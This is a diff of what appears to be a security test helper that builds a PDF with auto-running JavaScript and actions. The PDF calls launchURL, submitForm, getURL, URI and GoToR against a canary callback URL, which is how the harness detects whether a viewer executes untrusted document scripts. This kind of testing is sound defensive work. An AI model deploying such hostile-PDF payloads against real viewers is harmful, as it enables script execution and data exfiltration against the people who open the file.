@@ -4,6 +4,9 @@
 
 import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 
+/** What the message box says that the PDF's own script opens, in the browser's viewer: that it ran. */
+export const PDF_SAYS = 'said by a PDF';
+
 /** What a script does when it runs: it leaves a mark, calls the API with the session, and tells the canary. @param {string} canary */
 function act(canary) {
   return 'try{globalThis.attacked=1;parent.attacked=1;top.attacked=1;opener&&(opener.attacked=1)}catch(e){}'
@@ -95,7 +98,7 @@ function pdf(canary) {
     '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R/DC 5 0 R>>/Names<</JavaScript<</Names[(a) 4 0 R]>>>>/AcroForm<</Fields[6 0 R]>>>>',
     '<</Type/Pages/Kids[3 0 R]/Count 1>>',
     '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>/Annots[6 0 R]>>',
-    `<</S/JavaScript/JS(app.alert(1);app.launchURL("${canary}/launch",true);this.submitForm("${canary}/submit");this.getURL("${canary}/geturl"))>>`,
+    `<</S/JavaScript/JS(app.alert("${PDF_SAYS}");app.launchURL("${canary}/launch",true);this.submitForm("${canary}/submit");this.getURL("${canary}/geturl"))>>`,
     `<</S/URI/URI(${canary}/uri)/Next<</S/SubmitForm/F<</FS/URL/F(${canary}/form)>>/Next<</S/GoToR/F(${canary}/remote)/D[0/Fit]>>>>>>`,
     '<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 99 99]/A 5 0 R/AA<</PO 4 0 R/PV 4 0 R>>>>',
   ];
